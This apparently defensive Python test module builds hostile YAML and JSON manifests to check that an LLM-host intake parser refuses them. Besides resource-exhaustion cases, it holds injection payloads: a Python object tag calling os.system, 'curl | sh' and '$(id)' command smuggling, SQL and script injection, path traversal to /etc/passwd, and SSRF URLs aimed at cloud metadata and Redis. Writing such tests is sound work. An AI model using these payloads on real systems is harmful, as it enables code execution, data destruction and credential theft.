"""Hostile documents, for the intake's own tests and for the HTTP edge.

`expected_code` is the code of the intake's problem. None means that the text itself is fine: the layers above must
refuse it with 4xx or take it without harm, and must never answer 5xx.
"""

import json
from collections.abc import Iterator
from copy import deepcopy
from dataclasses import dataclass
from typing import Any

YAML = "application/yaml"
JSON = "application/json"
KIB = 1024


@dataclass(frozen=True, slots=True)
class HostileCase:
    id: str
    body: bytes
    content_type: str
    expected_code: str | None


GOOD: dict[str, Any] = {
    "apiVersion": "smarter.sh/v1",
    "kind": "LLMHost",
    "metadata": {"name": "qwen", "description": "A small model.", "version": "1.0.0"},
    "spec": {
        "engine": {"name": "vllm"},
        "model": {"source": "huggingface", "repository": "Qwen/Qwen3-8B"},
        "resources": {"cpu": "4", "memory": "24Gi", "gpuCount": 1},
        "storage": {"size": "50Gi"},
    },
}
HEAD = b"apiVersion: smarter.sh/v1\nkind: LLMHost\nmetadata:\n  name: qwen\n  description: d\n  version: 1.0.0\nspec:\n"
SPEC = b"  engine: {name: vllm}\n  model: {repository: Qwen/Qwen3-8B}\n"


def _in_spec(text: bytes) -> bytes:
    """A manifest whose spec holds one more field; the rest of the document is good."""
    return HEAD + SPEC + b"  resources:\n    memory: " + text + b"\n"


def _tree(path: str, value: Any) -> bytes:
    """The good manifest with one value replaced, as JSON. A part of `path` that is missing is made."""
    tree = deepcopy(GOOD)
    node = tree
    *parents, last = path.split(".")
    for part in parents:
        node = node.setdefault(part, {})
    node[last] = value
    return json.dumps(tree).encode()


def _characters() -> Iterator[tuple[str, bytes, str]]:
    for name, raw in {
        "nul": b"\x00",
        "backspace": b"\x08",
        "escape_sequence": b"\x1b[31m",
        "lone_carriage_return": b"a\rb",
        "delete": b"\x7f",
        "c1_next_line": "\u0085".encode(),
        "c1_csi": "\u009b".encode(),
        "line_separator": "\u2028".encode(),
        "right_to_left_override": "\u202e".encode(),
        "first_strong_isolate": "\u2068".encode(),
        "byte_order_mark_inside": "a\ufeffb".encode(),
        "noncharacter": "\uffff".encode(),
    }.items():
        yield f"character_{name}", _in_spec(b'"' + raw + b'"'), "forbidden_character"
        yield f"comment_{name}", HEAD + SPEC + b"# " + raw + b"\n", "forbidden_character"
    for name, escaped in {"nul": "\\0", "escape": "\\e", "override": "\\u202e", "next_line": "\\N"}.items():
        yield f"escaped_{name}", _in_spec(b'"' + escaped.encode() + b'"'), "forbidden_character"
    yield "escaped_lone_surrogate", _in_spec(b'"\\ud800"'), "syntax"


def _structure() -> Iterator[tuple[str, bytes, str]]:
    bomb = b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
        b"%c: &%c [%s]\n" % (98 + i, 98 + i, b",".join([b"*%c" % (97 + i)] * 9)) for i in range(8)
    )
    yield "alias_bomb", bomb, "yaml_anchor"
    yield "alias", HEAD + b"  engine: &e {name: vllm}\n  model: *e\n", "yaml_alias"
    yield "alias_to_itself", HEAD + SPEC + b"  resources:\n    tolerations: &a [{x: *a}]\n", "yaml_alias"
    yield "alias_undefined", _in_spec(b"*nothing"), "yaml_alias"
    yield "anchor_unused", _in_spec(b"&x 24Gi"), "yaml_anchor"
    yield "anchors_20000", b"".join(b"- &a%d 1\n" % i for i in range(20_000)), "yaml_anchor"
    yield "merge_key", HEAD + SPEC + b"  resources:\n    <<: {memory: 24Gi}\n", "yaml_merge_key"
    yield "merge_list", b"a: &a {x: 1}\nb:\n  <<: [" + b",".join([b"*a"] * 60_000) + b"]\n", "yaml_merge_key"
    yield "tag_python_object", _in_spec(b"!!python/object/apply:os.system ['id']"), "yaml_tag"
    yield "tag_python_name", _in_spec(b"!!python/name:os.system"), "yaml_tag"
    for tag in (b"float", b"int", b"bool", b"timestamp", b"binary", b"str", b"set", b"omap"):
        yield f"tag_{tag.decode()}", _in_spec(b"!!" + tag + b" abc"), "yaml_tag"
    yield "tag_local", _in_spec(b"!secret x"), "yaml_tag"
    yield "tag_non_specific", _in_spec(b"! 24Gi"), "yaml_tag"
    yield "directive_yaml", b"%YAML 1.1\n---\n" + HEAD + SPEC, "yaml_directive"
    yield "directive_tag", b"%TAG !e! tag:example.com,2000:\n---\n" + HEAD + SPEC, "yaml_directive"
    yield "directive_future", b"%YAML 9.9\n---\n" + HEAD + SPEC, "syntax"
    yield "flow_500_deep", _in_spec(b"[" * 500 + b"]" * 500), "too_deep"
    yield "flow_5000_deep", _in_spec(b"[" * 5000 + b"]" * 5000), "syntax"
    yield "flow_open_100000", _in_spec(b"[" * 100_000), "syntax"
    yield "block_600_deep", b"".join(b" " * i + b"a:\n" for i in range(600)), "too_deep"
    yield "dashes_deep", b"- " * 3000 + b"x", "too_deep"
    yield "nodes_5001", HEAD + SPEC + b"  x:\n" + b"    - 1\n" * 5001, "too_many_nodes"
    yield "nodes_in_many_documents", b"---\n".join([b"a: [" + b"1," * 900 + b"1]\n"] * 30), "too_many_nodes"
    yield "documents_51", b"---\n".join([b"a: 1\n"] * 51), "too_many_documents"
    yield "documents_blank_60000", b"---\n" * 60_000, "too_many_nodes"
    yield "scalar_70_kib", _in_spec(b"x" * 70 * KIB), "scalar_too_long"
    yield "scalar_of_emoji", _in_spec("\U0001f600".encode() * 17_000), "scalar_too_long"
    yield "body_257_kib", HEAD + SPEC + b"# " + b"x" * 257 * KIB, "too_large"
    yield "body_1_mib_of_brackets", b"[" * KIB * KIB, "too_large"


def _scalars() -> Iterator[tuple[str, bytes, str | None]]:
    yield "integer_5000_digits", _in_spec(b"9" * 5000), "number_out_of_range"
    yield "integer_2_to_63", _in_spec(b"9223372036854775808"), "number_out_of_range"
    yield "integer_2_to_70", _in_spec(str(2**70).encode()), "number_out_of_range"
    yield "hexadecimal_60000_digits", _in_spec(b"0x" + b"f" * 60_000), "number_out_of_range"
    yield "sexagesimal_20000_parts", _in_spec(b"1" + b":59" * 20_000), None
    yield "sexagesimal", _in_spec(b"99:99:99"), None
    yield "date_impossible", _in_spec(b"2001-13-45"), None
    yield "octal_by_zero", _in_spec(b"010"), None
    yield "word_yes", _in_spec(b"yes"), None
    yield "underscore_number", _in_spec(b"1_000"), None
    yield "float_overflow", _in_spec(b"1e400"), "number_out_of_range"
    yield "float_60000_digits", _in_spec(b"1." + b"9" * 60_000), "number_out_of_range"
    yield "float_infinity", _in_spec(b".inf"), "number_not_finite"
    yield "float_minus_infinity", _in_spec(b"-.Inf"), "number_not_finite"
    yield "float_nan", _in_spec(b".nan"), "number_not_finite"


def _keys() -> Iterator[tuple[str, bytes, str]]:
    yield "duplicate_key", HEAD + SPEC + b"  engine: {name: llama_cpp}\n", "duplicate_key"
    yield "duplicate_key_quoted", HEAD + SPEC + b'  "engine": {name: llama_cpp}\n', "duplicate_key"
    yield "duplicate_key_escaped", HEAD + SPEC + b'  "\\x65ngine": {name: llama_cpp}\n', "duplicate_key"
    yield "duplicate_key_top", HEAD + SPEC + b"kind: Account\n", "duplicate_key"
    yield "key_integer", HEAD + SPEC + b"  1: x\n", "key_not_text"
    yield "key_boolean", HEAD + SPEC + b"  true: x\n", "key_not_text"
    yield "key_null", HEAD + SPEC + b"  ~: x\n", "key_not_text"
    yield "key_float", HEAD + SPEC + b"  1e400: x\n", "key_not_text"
    yield "key_list", HEAD + SPEC + b"  ? [a, b]\n  : x\n", "key_not_text"
    yield "key_mapping", HEAD + SPEC + b"  ? {a: b}\n  : x\n", "key_not_text"
    yield "key_alias", HEAD + SPEC + b"  *a : x\n", "key_not_text"
    yield "key_with_nul", HEAD + SPEC + b'  "a\\0b": x\n', "forbidden_character"


def _envelope() -> Iterator[tuple[str, bytes, str]]:
    yield "nothing", b"", "empty"
    yield "blanks", b" \n\t\n".replace(b"\t", b" "), "empty"
    yield "comment_only", b"# nothing\n", "empty"
    yield "separators_only", b"---\n---\n", "empty"
    yield "null", b"null\n", "not_a_mapping"
    yield "scalar", b"hello\n", "not_a_mapping"
    yield "list_as_document", b"- apiVersion: smarter.sh/v1\n", "not_a_mapping"
    yield "list_second_document", HEAD + SPEC + b"---\n- x\n", "not_a_mapping"
    yield "utf_16_little_endian", (HEAD + SPEC).decode().encode("utf-16"), "encoding"
    yield "utf_16_big_endian", b"\xfe\xff" + (HEAD + SPEC).decode().encode("utf-16-be"), "encoding"
    yield "utf_16_without_mark", (HEAD + SPEC).decode().encode("utf-16-le"), "forbidden_character"
    yield "utf_32", (HEAD + SPEC).decode().encode("utf-32"), "encoding"
    yield "latin_1", _in_spec(b'"\xe9"'), "encoding"
    yield "utf_8_overlong", _in_spec(b'"\xc0\x80"'), "encoding"
    yield "utf_8_surrogate", _in_spec(b'"\xed\xa0\x80"'), "encoding"
    yield "utf_8_cut", HEAD + SPEC + b"# \xf0\x9f", "encoding"
    yield "random_bytes", bytes(range(256)), "encoding"
    yield "gzip_header", b"\x1f\x8b\x08\x00" + b"\x00" * 64, "encoding"
    yield "syntax_mapping_in_scalar", b"a: b: c\n", "syntax"
    yield "syntax_tab_indent", b"a:\n\tb: 1\n", "syntax"
    yield "syntax_open_quote", b'a: "x\n', "syntax"
    yield "syntax_open_flow", b"a: [1, 2\n", "syntax"
    yield "template_left_over", b"a: {{ .Values.name }}\n", "key_not_text"
    yield "html", b"<!doctype html><html></html>", "not_a_mapping"


def _json() -> Iterator[tuple[str, bytes, str]]:
    yield "json_duplicate_key", b'{"apiVersion":"smarter.sh/v1","kind":"LLMHost","kind":"Account"}', "duplicate_key"
    yield "json_duplicate_by_escape", b'{"kind":"LLMHost","\\u006bind":"Account"}', "duplicate_key"
    yield "json_lone_surrogate", _tree("metadata.description", "\ud800"), "forbidden_character"
    yield "json_nul", _tree("metadata.description", "a\0b"), "forbidden_character"
    yield "json_override", _tree("metadata.description", "\u202e"), "forbidden_character"
    yield "json_huge_integer", _tree("spec.model.parameterCount", 10**400), "number_out_of_range"
    yield "json_float_overflow", b'{"a":1e400}', "number_out_of_range"
    yield "json_deep", b'{"a":' * 5000 + b"1" + b"}" * 5000, "too_deep"
    yield "json_list_deep", b"[" * 100_000, "too_deep"
    yield "json_wide", b'{"a":[' + b"1," * 60_000 + b"1]}", "too_many_nodes"
    yield "json_list", b"[" + json.dumps(GOOD).encode() + b"]", "not_a_mapping"
    yield "json_cut", json.dumps(GOOD).encode()[:-1], "syntax"
    yield "json_long_string", _tree("metadata.description", "x" * 100_000), "scalar_too_long"
    yield "json_escaped_nuls", b'{"a":"' + b"\\u0000" * 30_000 + b'"}', "forbidden_character"
    yield "json_in_utf_16", json.dumps(GOOD).encode("utf-16"), "encoding"


# Good text, bad manifests: for the layers above.
_REPLACED: dict[str, tuple[str, Any]] = {
    "unknown_top_field": ("extra", 1),
    "unknown_spec_field": ("spec.privileged", True),
    "unknown_engine_field": ("spec.engine.securityContext", {"privileged": True}),
    "unknown_metadata_field": ("metadata.uid", "00000000-0000-0000-0000-000000000000"),
    "assign_status": ("status", {"hostStatus": "active", "estimatedCost": 0}),
    "assign_account_number": ("metadata.accountNumber", "0000-0000-0000"),
    "assign_username": ("metadata.username", "root"),
    "assign_created": ("metadata.created", "1970-01-01T00:00:00Z"),
    "assign_is_superuser": ("spec.isSuperuser", True),
    "assign_namespace": ("metadata.namespace", "kube-system"),
    "prototype_pollution": ("__proto__", {"isAdmin": True}),
    "python_attribute": ("spec.__class__", "x"),
    "wrong_api_version": ("apiVersion", "smarter.sh/v2"),
    "api_version_number": ("apiVersion", 1),
    "kind_unknown": ("kind", "Pod"),
    "kind_case": ("kind", "llmhost"),
    "kind_list": ("kind", ["LLMHost"]),
    "kind_path": ("kind", "../../Account"),
    "spec_null": ("spec", None),
    "spec_text": ("spec", "x"),
    "spec_list": ("spec", []),
    "metadata_list": ("metadata", []),
    "name_missing_value": ("metadata.name", None),
    "name_60000": ("metadata.name", "a" * 60_000),
    "name_newline": ("metadata.name", "qwen\n"),
    "name_path": ("metadata.name", "../../etc/passwd"),
    "name_sql": ("metadata.name", "x'; DROP TABLE resources; --"),
    "name_html": ("metadata.name", "<script>alert(1)</script>"),
    "name_homoglyph": ("metadata.name", "qwеn"),  # noqa: RUF001 - the Cyrillic letter is the point of the case
    "name_number": ("metadata.name", 7),
    "description_html": ("metadata.description", "<img src=x onerror=alert(1)>"),
    "description_formula": ("metadata.description", "=cmd|'/c calc'!A1"),
    "description_template": ("metadata.description", "{{7*7}}{% debug %}${7*7}"),
    "description_lines": ("metadata.description", "ok\nERROR forged log line"),
    "replicas_negative": ("spec.scaling", {"replicas": -1}),
    "replicas_2_to_31": ("spec.scaling", {"replicas": 2**31}),
    "replicas_2_to_63": ("spec.scaling", {"replicas": 2**63 - 1}),
    "replicas_text": ("spec.scaling", {"replicas": "2"}),
    "replicas_float": ("spec.scaling", {"replicas": 1.0}),
    "replicas_boolean": ("spec.scaling", {"replicas": True}),
    "parameter_count_2_to_63": ("spec.model.parameterCount", 2**63 - 1),
    "port_0": ("spec.engine.port", 0),
    "port_65536": ("spec.engine.port", 65_536),
    "memory_1e30": ("spec.resources.memory", "1e30"),
    "memory_negative": ("spec.resources.memory", "-1Gi"),
    "memory_arabic_digit": ("spec.resources.memory", "\u0661Gi"),
    "memory_suffix_twice": ("spec.resources.memory", "1Ki1"),
    "memory_exbibyte": ("spec.resources.memory", "1Ei"),
    "cpu_hexadecimal": ("spec.resources.cpu", "0x10"),
    "cpu_nano": ("spec.resources.cpu", "1n"),
    "shm_10_ti": ("spec.resources.shmSize", "10Ti"),
    "repository_shell": ("spec.model.repository", "a/b; curl http://x | sh"),
    "repository_flag": ("spec.model.repository", "--help"),
    "repository_path": ("spec.model.repository", "../../../etc"),
    "revision_shell": ("spec.model.revision", "$(id)"),
    "file_path": ("spec.model.file", "../../../etc/passwd"),
    "args_override_port": ("spec.engine.args", ["--port=1", "--api-key", "x"]),
    "args_4000": ("spec.engine.args", ["x"] * 4_000),
    "env_reserved": ("spec.engine.env", {"LD_PRELOAD": "/models/x.so", "PATH": "/models"}),
    "env_bad_name": ("spec.engine.env", {"A=B": "x", "": "y", "a b": "z"}),
    "node_selector_bad": ("spec.resources.nodeSelector", {"a/b/c": "x" * 300}),
    "toleration_any_type": ("spec.resources.tolerations", [{"key": {"deep": [1]}, "x": None}]),
    "toleration_everything": ("spec.resources.tolerations", [{"operator": "Exists"}]),
    "image_flag": ("spec.engine.image", "--privileged"),
    "image_space": ("spec.engine.image", "a b"),
    "regex_bomb": ("spec.engine.image", "a" * 50_000 + "!"),
    "claim_other_namespace": ("spec.storage.existingClaim", "other/claim"),
    "health_path_host": ("spec.healthCheck", {"path": "http://169.254.169.254/latest"}),
    "service_account_default": ("spec.resources.serviceAccountName", "../default"),
}
_URLS = {
    "metadata": "http://169.254.169.254/latest/meta-data",
    "metadata_mapped": "http://[::ffff:a9fe:a9fe]/",
    "metadata_decimal": "https://2852039166/",
    "loopback_hexadecimal": "https://0x7f.1/",
    "file_scheme": "file:///etc/passwd",
    "gopher": "gopher://127.0.0.1:6379/_FLUSHALL",
    "credentials": "https://user:password@example.com/model.gguf",
    "backslash": "https://example.com\\@127.0.0.1/x",
    "localhost": "https://localhost/model.gguf",
    "cluster_service": "https://kubernetes.default.svc/api",
}


def _manifests() -> Iterator[HostileCase]:
    for name, (path, value) in _REPLACED.items():
        yield HostileCase(f"manifest_{name}", _tree(path, value), JSON, None)
    for name, url in _URLS.items():
        model = {"source": "url", "repository": url}
        yield HostileCase(f"url_{name}", _tree("spec.model", model), JSON, None)
    only_kind = {"apiVersion": "smarter.sh/v1", "kind": "LLMHost"}
    yield HostileCase("manifest_without_spec", json.dumps(only_kind).encode(), JSON, None)
    yield HostileCase("manifest_empty", b"{}", JSON, None)
    yield HostileCase("manifest_kubernetes_list", b'{"apiVersion":"v1","kind":"List","items":[]}', JSON, None)
    yield HostileCase("stream_same_name_twice", HEAD + SPEC + b"---\n" + HEAD + SPEC, YAML, None)
    yield HostileCase("stream_second_bad", HEAD + SPEC + b"---\nkind: Pod\napiVersion: v1\n", YAML, None)


def _all() -> Iterator[HostileCase]:
    for group in (_characters, _structure, _scalars, _keys, _envelope):
        for name, body, code in group():
            yield HostileCase(name, body, YAML, code)
    for name, body, code in _json():
        yield HostileCase(name, body, JSON, code)
    yield from _manifests()


HOSTILE: list[HostileCase] = list(_all())
